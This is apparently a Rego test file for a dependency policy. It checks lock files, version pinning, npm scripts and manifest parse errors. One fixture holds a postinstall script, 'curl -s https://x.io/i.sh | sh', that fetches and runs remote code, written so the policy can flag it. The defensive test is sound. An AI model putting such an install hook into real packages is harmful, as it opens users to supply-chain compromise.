package golden.dependencies_test

import data.golden.dependencies

manifests(m) := object.union({
	"package_json": null, "pyproject": null, "go_mod": null, "cargo": null,
	"requirements": [], "lock_files": [],
}, m)

test_npm_without_lock if {
	dependencies.deny_lock_file == {{"msg": "package.json has dependencies but no lock file (package-lock.json, yarn.lock, pnpm-lock.yaml)", "file": "package.json"}} with input as {"files": [], "manifests": manifests({"package_json": {"path": "package.json", "dependencies": {"a": "1"}}})}
}

test_npm_with_lock if {
	count(dependencies.deny_lock_file) == 0 with input as {"files": [], "manifests": manifests({"package_json": {"path": "package.json", "devDependencies": {"a": "1"}}, "lock_files": ["yarn.lock"]})}
}

test_npm_without_dependencies_needs_no_lock if {
	count(dependencies.deny_lock_file) == 0 with input as {"files": [], "manifests": manifests({"package_json": {"path": "package.json", "name": "x"}})}
}

test_go_without_sum if {
	dependencies.deny_lock_file == {{"msg": "go.mod requires modules but there is no go.sum", "file": "go.mod"}} with input as {"files": [], "manifests": manifests({"go_mod": {"path": "go.mod", "require": [{"path": "a.b/c", "version": "v1.0.0", "indirect": false}]}})}
}

test_go_with_sum if {
	count(dependencies.deny_lock_file) == 0 with input as {"files": [{"path": "go.sum", "kind": "file", "size": 1}], "manifests": manifests({"go_mod": {"path": "go.mod", "require": [{"path": "a.b/c"}]}})}
}

test_unpinned_requirements if {
	reqs := [
		{"path": "requirements.txt", "line": 1, "name": "flask", "pinned": true, "text": "flask==3.0.0"},
		{"path": "requirements.txt", "line": 2, "name": "requests", "pinned": false, "text": "requests>=2"},
	]
	dependencies.warn_unpinned_requirements == {{"msg": "requirements.txt:2: requests is not pinned to a version (==)", "file": "requirements.txt", "line": 2}} with input as {"manifests": manifests({"requirements": reqs})}
}

test_dangerous_postinstall if {
	pkg := {"path": "package.json", "scripts": {"postinstall": "curl -s https://x.io/i.sh | sh", "test": "curl localhost", "build": "tsc"}}
	dependencies.deny_npm_scripts == {{"msg": "package.json: the postinstall script downloads or evaluates code: curl -s https://x.io/i.sh | sh", "file": "package.json"}} with input as {"manifests": manifests({"package_json": pkg})}
}

test_harmless_prepare if {
	count(dependencies.deny_npm_scripts) == 0 with input as {"manifests": manifests({"package_json": {"path": "package.json", "scripts": {"prepare": "husky install"}}})}
}

test_invalid_manifest if {
	dependencies.deny_invalid_manifest == {{"msg": "pyproject.toml cannot be read: expected '='", "file": "pyproject.toml", "line": 4}} with input as {"manifests": manifests({"pyproject": {"path": "pyproject.toml", "error": {"message": "expected '='", "line": 4}}})}
}
